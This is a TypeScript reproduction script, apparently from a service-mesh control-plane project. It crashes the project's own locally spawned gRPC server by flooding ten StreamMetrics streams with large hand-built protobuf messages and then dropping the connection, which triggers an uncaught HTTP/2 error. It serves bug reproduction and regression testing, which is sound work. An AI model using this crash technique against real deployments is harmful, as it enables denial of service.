/**
 * A reproduction from the outside attack on issue 34's doors (7 December): a client that streams metrics messages
 * on a few `MetricsService/StreamMetrics` streams and then drops its connection can end the server. The metrics
 * handler answers the client's end of stream (`call.write`, then OK), and when the connection is gone while a
 * stream's input is still being read, Node's http2 stream is closed but not yet destroyed as its 'end' arrives:
 * `ServerCall.write` checks `destroyed` only, `respond()` throws ERR_HTTP2_INVALID_STREAM, and nothing catches it.
 * Observed: the server (plaintext, or mTLS with any workload certificate) died at the 2nd of these runs, 4 times of 4.
 *
 * Run: npm run build && node dist-dev/bench/attack-observed.js   (starts `serve --manifests deploy/demo` itself)
 * Prints whether the server survived; exit 1 if it did not.
 */
import { spawn } from 'node:child_process';
import http2 from 'node:http2';
import net from 'node:net';
import { packagePath } from '../src/paths.js';

const varint = (n: number): Buffer => {
  const out: number[] = [];
  do {
    let b = n % 128;
    n = Math.floor(n / 128);
    if (n) b |= 0x80;
    out.push(b);
  } while (n);
  return Buffer.from(out);
};
const ld = (field: number, body: Buffer | string): Buffer => {
  const b = Buffer.isBuffer(body) ? body : Buffer.from(body);
  return Buffer.concat([varint((field << 3) | 2), varint(b.length), b]);
};
const structString = (k: string, v: string): Buffer => ld(1, Buffer.concat([ld(1, k), ld(2, ld(3, v))]));
/** StreamMetricsMessage.identifier.node: id, metadata {namespace, serviceAccount}. */
const identifier = (id: string): Buffer => ld(1, ld(1, Buffer.concat([ld(1, id), ld(3, Buffer.concat([structString('namespace', 'httpbin'), structString('serviceAccount', 'httpbin')]))])));
/** One per-cluster counter family with `n` series (a counter of 1 each). */
const family = (n: number): Buffer => {
  const value = Buffer.concat([Buffer.from([0x09]), Buffer.alloc(8)]);
  value.writeDoubleLE(1, 1);
  const metric = ld(4, ld(3, value));
  return ld(2, Buffer.concat([ld(1, 'cluster.curl/curl|8080.upstream_rq_total'), Buffer.from([0x18, 0]), ...Array<Buffer>(n).fill(metric)]));
};
const frame = (msg: Buffer): Buffer => Buffer.concat([Buffer.from([0, ...[24, 16, 8, 0].map((s) => (msg.length >>> s) & 0xff)]), msg]);
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

async function freePort(): Promise<number> {
  const s = net.createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const port = (s.address() as net.AddressInfo).port;
  await new Promise((r) => s.close(r));
  return port;
}

/** 10 streams writing 260 KB messages for 1.5 s on one connection, then the connection destroyed. */
async function run(ads: string): Promise<void> {
  const payload = family(20_000);
  const session = http2.connect(`http://${ads}`);
  session.on('error', () => {});
  const until = Date.now() + 1_500;
  for (let i = 0; i < 10; i++) {
    const s = session.request({ ':method': 'POST', ':path': '/envoy.service.metrics.v3.MetricsService/StreamMetrics', 'content-type': 'application/grpc', te: 'trailers' });
    s.on('error', () => {});
    s.on('data', () => {});
    s.setMaxListeners(0);
    void (async () => {
      s.write(frame(Buffer.concat([identifier(`attack-${i}`), payload])));
      while (Date.now() < until && !s.closed) {
        if (!s.write(frame(payload))) await new Promise((r) => (s.once('drain', r), s.once('close', r)));
        else await sleep(0);
      }
    })();
  }
  await sleep(1_500);
  session.destroy();
  await sleep(500);
}

const [adsPort, debugPort] = [await freePort(), await freePort()];
const ads = `127.0.0.1:${adsPort}`;
const server = spawn(process.execPath, [packagePath('bin/mesh-xds.js'), 'serve', '--manifests', packagePath('deploy/demo'), '--ads-address', ads, '--debug-address', `127.0.0.1:${debugPort}`], { stdio: ['ignore', 'ignore', 'pipe'] });
let stderr = '';
server.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
let exited: number | null | undefined;
server.on('exit', (code) => (exited = code));
for (let i = 0; i < 40; i++) {
  if (await fetch(`http://127.0.0.1:${debugPort}/healthz`).then((r) => r.ok, () => false)) break;
  await sleep(250);
}
let runs = 0;
for (; runs < 5 && exited === undefined; runs++) await run(ads);
await sleep(500);
if (exited === undefined) {
  console.log(`the server survived ${runs} runs`);
  server.kill();
} else {
  console.log(`the server exited (code ${exited}) during run ${runs}: ${/Error \[\w+\][^\n]*/.exec(stderr)?.[0] ?? stderr.slice(0, 300)}`);
  process.exitCode = 1;
}
